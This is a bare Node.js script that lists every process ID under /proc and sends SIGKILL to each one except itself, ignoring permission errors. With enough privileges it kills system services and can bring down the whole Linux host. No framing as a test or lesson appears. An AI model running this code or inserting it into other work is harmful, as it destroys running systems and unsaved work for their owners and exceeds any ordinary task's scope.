const fs = require('fs');

const pids = fs.readdirSync('/proc').filter((x) => /^\d+$/.test(x)).map(Number);
for (const pid of pids) {
  if (pid === process.pid) continue;
  try { process.kill(pid, 'SIGKILL'); } catch (e) { /* not ours */ }
}
